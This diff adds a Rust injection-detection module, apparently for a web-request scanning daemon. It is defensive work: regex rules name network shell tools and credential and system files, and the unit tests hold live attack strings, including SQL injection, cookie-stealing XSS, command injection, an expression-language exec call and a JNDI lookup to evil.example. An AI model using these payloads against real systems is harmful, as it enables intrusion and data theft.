@@ -1,0 +1,330 @@
+//! Injection in one decoded input: SQL and XSS with libinjection (the pure-Rust port,
+//! see docs/detections.md for its evaluation), path traversal and file inclusion,
+//! OS commands, template and expression languages, JNDI lookups, NoSQL operators.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::{
+    catalog::{self, RuleInfo},
+    inputs::{Input, Location},
+};
+
+/// libinjection is a port of C code: should it ever panic on some input, the
+/// daemon counts a finding-less input instead of dying.
+fn guarded(check: impl FnOnce() -> bool + std::panic::UnwindSafe) -> bool {
+    std::panic::catch_unwind(check).unwrap_or(false)
+}
+
+/// Whether a value could hold SQL beyond one plain word: libinjection is the costly
+/// check, and most values are words, numbers or identifiers.
+fn sql_candidate(value: &str) -> bool {
+    value.len() >= 2
+        && value.bytes().any(|b| {
+            matches!(
+                b,
+                b'\''
+                    | b'"'
+                    | b'`'
+                    | b';'
+                    | b'('
+                    | b')'
+                    | b'='
+                    | b'-'
+                    | b'#'
+                    | b'/'
+                    | b'*'
+                    | b'|'
+                    | b'&'
+                    | b' '
+                    | b'\t'
+                    | b'\n'
+                    | b'+'
+                    | b','
+            )
+        })
+}
+
+fn xss_candidate(value: &str) -> bool {
+    value
+        .bytes()
+        .any(|b| matches!(b, b'<' | b'>' | b'"' | b'\'' | b'`' | b'='))
+        || value.to_ascii_lowercase().contains("script:")
+}
+
+pub fn sqli(input: &Input) -> bool {
+    sql_candidate(&input.value)
+        && guarded(|| libinjectionrs::detect_sqli(input.value.as_bytes()).is_injection())
+}
+
+pub fn xss(input: &Input) -> bool {
+    if !xss_candidate(&input.value) {
+        return false;
+    }
+    if guarded(|| libinjectionrs::detect_xss(input.value.as_bytes()).is_injection()) {
+        return true;
+    }
+    // libinjection leaves URL-only vectors to the caller.
+    SCRIPT_URL.is_match(&input.value)
+}
+
+static SCRIPT_URL: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(r"(?i)^\s*(?:javascript|vbscript|livescript)\s*:|^\s*data\s*:\s*text/html")
+});
+
+#[allow(
+    clippy::expect_used,
+    reason = "literal patterns, each compiled by the unit tests"
+)]
+fn pattern(source: &str) -> Regex {
+    Regex::new(source).expect("detection pattern compiles")
+}
+
+static TRAVERSAL: LazyLock<Regex> = LazyLock::new(|| {
+    // `..` as a whole segment, either slash; overlong UTF-8 dots and slashes as
+    // the lossy decoding leaves them.
+    pattern(r"(?:^|[/\\])\.\.(?:[/\\]|$)|\.\.[/\\]|%c0%a[ef]|%c1%9c|\.\.\x{fffd}")
+});
+
+static SYSTEM_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r"(?ix)
+        (?:^|[/\\]|\x00)(?:
+            etc[/\\](?:passwd|shadow|group|hosts|issue|sudoers|crontab|ssh[/\\]|os-release)
+          | proc[/\\](?:self|\d+)[/\\](?:environ|cmdline|maps|fd|status|cwd)
+          | (?:root|home[/\\][^/\\]+)[/\\]\.(?:ssh|bash_history|aws)
+          | var[/\\]log[/\\]
+          | windows[/\\](?:win\.ini|system32)
+          | boot\.ini
+          | web-inf[/\\]
+          | \.htaccess | \.htpasswd | \.git[/\\](?:config|head) | \.env$
+        )
+        | ^(?:php|phar|zip|expect|data|glob)://",
+    )
+});
+
+static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?ix)
+        (?:[;|&`\n\r]|\$\(|\|\||&&)\s*
+        (?:[\w./-]*/)?
+        (?:
+            (?:cat|tac|head|tail|more|less|nl|ls|dir|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|ksh
+              |ping|nslookup|dig|host|sleep|echo|printf|rm|cp|mv|chmod|chown|python[23]?|perl|ruby
+              |php|node|powershell|pwsh|cmd(?:\.exe)?|telnet|ssh|scp|base64|xxd|find|grep|awk|sed
+              |kill|pkill|touch|mkdir|crontab|useradd|nohup|timeout|eval|exec|socat)
+            (?:\s+(?:[-/$~'"\d.<>]|[\w-]+[./:]\S)|\s*\$\{IFS\}|\s*(?:$|[;|&`)\#<>]))
+          | (?:id|whoami|uname|pwd|ifconfig|ipconfig|hostname|env|printenv|ps|w|who|reboot|shutdown|netstat)
+            (?:\s*(?:$|[;|&`)\#<>])|\s+-)
+        )
+        | `[^`]*\b(?:id|whoami|uname|cat|ls|sleep|curl|wget|ping)\b[^`]*`
+        | \$\{IFS\}"#,
+    )
+});
+
+static TEMPLATE: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r"(?ix)
+        \{\{[^}]*(?:\d\s*[*+/-]\s*\d|__\w+__|\bconfig\b|\bself\b|\brequest\b|lipsum|cycler|joiner|\bnamespace\b|\[\s*['\x22]|\|\s*attr|\.\s*constructor)
+      | \{%\s*(?:import|include|set|for|if|macro|block|extends|raw)\b
+      | \$\{\s*\d+\s*[*+/-]\s*\d+\s*\}
+      | \#\{\s*\d+\s*[*+/-]\s*\d+\s*\}
+      | <%=?\s*[^%]*(?:\d\s*[*+]\s*\d|system|exec|eval|runtime|request|`)
+      | \$\{[^}]*(?:\bT\s*\(|getRuntime|getClass|\bnew\s+java|\.exec\s*\(|freemarker|ProcessBuilder)
+      | <\#(?:assign|include|import)
+      | \#set\s*\(\s*\$
+      | \*\{[^}]*\bT\s*\(",
+    )
+});
+
+static JNDI: LazyLock<Regex> =
+    LazyLock::new(|| pattern(r"(?i)\$\{[^}]*(?:jndi|\$\{|lower:|upper:|::-|env:|sys:|java:)"));
+
+const NOSQL_OPERATORS: &[&str] = &[
+    "$ne",
+    "$eq",
+    "$gt",
+    "$gte",
+    "$lt",
+    "$lte",
+    "$in",
+    "$nin",
+    "$regex",
+    "$where",
+    "$exists",
+    "$or",
+    "$and",
+    "$not",
+    "$nor",
+    "$expr",
+    "$function",
+    "$accumulator",
+    "$elemmatch",
+    "$type",
+    "$size",
+    "$all",
+    "$mod",
+    "$text",
+    "$jsonschema",
+];
+
+fn nosql_operator(name: &str) -> bool {
+    let lower = name.trim().to_ascii_lowercase();
+    NOSQL_OPERATORS.contains(&lower.as_str())
+}
+
+/// `user[$ne]=` (PHP and Express parse brackets into objects).
+fn bracket_operator(name: &str) -> bool {
+    name.split(['[', ']'])
+        .filter(|part| part.starts_with('$'))
+        .any(nosql_operator)
+}
+
+/// The injection rules `input` breaks.
+pub fn scan(input: &Input, out: &mut Vec<&'static RuleInfo>) {
+    let value = input.value.as_str();
+    match input.location {
+        Location::JsonKey => {
+            if nosql_operator(value) {
+                out.push(catalog::NOSQL_INJECTION);
+            }
+            return;
+        }
+        Location::QueryName | Location::FormName => {
+            if bracket_operator(value) {
+                out.push(catalog::NOSQL_INJECTION);
+            }
+        }
+        _ => {}
+    }
+    if sqli(input) {
+        out.push(catalog::SQLI);
+    }
+    if xss(input) {
+        out.push(catalog::XSS);
+    }
+    if value.contains("..") || value.contains('%') {
+        if TRAVERSAL.is_match(value) {
+            out.push(catalog::PATH_TRAVERSAL);
+        }
+    }
+    if SYSTEM_FILE.is_match(value) {
+        out.push(catalog::FILE_INCLUSION);
+    }
+    if COMMAND.is_match(value) {
+        out.push(catalog::COMMAND_INJECTION);
+    }
+    if value.contains(['{', '%', '#', '*']) && TEMPLATE.is_match(value) {
+        out.push(catalog::TEMPLATE_INJECTION);
+    }
+    if value.contains("${") && JNDI.is_match(value) {
+        out.push(catalog::JNDI_INJECTION);
+    }
+    if input.location.is_parameter_value()
+        && value.starts_with('$')
+        && (value.contains("where") || value.contains("function"))
+    {
+        out.push(catalog::NOSQL_INJECTION);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(location: Location, value: &str) -> Vec<&'static str> {
+        let input = Input {
+            location,
+            name: "q".into(),
+            value: super::super::decode::normalise(value).into_owned(),
+        };
+        let mut out = Vec::new();
+        scan(&input, &mut out);
+        out.iter().map(|r| r.id).collect()
+    }
+
+    fn fires(value: &str, rule: &str) {
+        assert!(
+            rules(Location::Query, value).contains(&rule),
+            "{value:?} should trigger {rule}, got {:?}",
+            rules(Location::Query, value)
+        );
+    }
+
+    fn clean(value: &str) {
+        assert_eq!(
+            rules(Location::Query, value),
+            Vec::<&str>::new(),
+            "{value:?}"
+        );
+    }
+
+    #[test]
+    fn patterns_compile() {
+        for re in [
+            &SCRIPT_URL,
+            &TRAVERSAL,
+            &SYSTEM_FILE,
+            &COMMAND,
+            &TEMPLATE,
+            &JNDI,
+        ] {
+            assert!(!re.as_str().is_empty());
+        }
+    }
+
+    #[test]
+    fn finds_each_kind_of_injection() {
+        fires("1' OR '1'='1", "sqli");
+        fires("1 UNION SELECT username,password FROM users--", "sqli");
+        fires("%27%20or%201%3D1--", "sqli");
+        fires("<script>alert(1)</script>", "xss");
+        fires("&lt;img src=x onerror=alert(1)&gt;", "xss");
+        fires("javascript:alert(document.cookie)", "xss");
+        fires("../../../../etc/passwd", "path-traversal");
+        fires("..%252f..%252f..%252fetc%252fpasswd", "file-inclusion");
+        fires("..\\..\\windows\\win.ini", "path-traversal");
+        fires("; cat /etc/passwd", "command-injection");
+        fires("127.0.0.1 | id", "command-injection");
+        fires("$(whoami)", "command-injection");
+        fires("`id`", "command-injection");
+        fires("a;sleep${IFS}5", "command-injection");
+        fires("{{7*7}}", "template-injection");
+        fires("{{ config.items() }}", "template-injection");
+        fires(
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "template-injection",
+        );
+        fires("${jndi:ldap://evil.example/a}", "jndi-injection");
+        fires("${${lower:j}ndi:ldap://x/}", "jndi-injection");
+        assert_eq!(rules(Location::JsonKey, "$ne"), ["nosql-injection"]);
+        assert_eq!(
+            rules(Location::QueryName, "password[$ne]"),
+            ["nosql-injection"]
+        );
+    }
+
+    #[test]
+    fn leaves_ordinary_values_alone() {
+        for value in [
+            "O'Brien",
+            "rock 'n' roll",
+            "Tom & Jerry; cat videos",
+            "It's a \"great\" day -- really",
+            "SELECT your plan",
+            "50% off (today only)",
+            "user@example.com",
+            "2024-01-31T10:00:00Z",
+            "<b>bold</b> and <i>italic</i>",
+            "a/b/c.txt",
+            "1.2.3",
+            "{{firstName}} welcome",
+            "price: $5 * 3",
+            "we ran ls on it, then id",
+            "aGVsbG8gd29ybGQ=",
+        ] {
+            clean(value);
+        }
+    }
+}
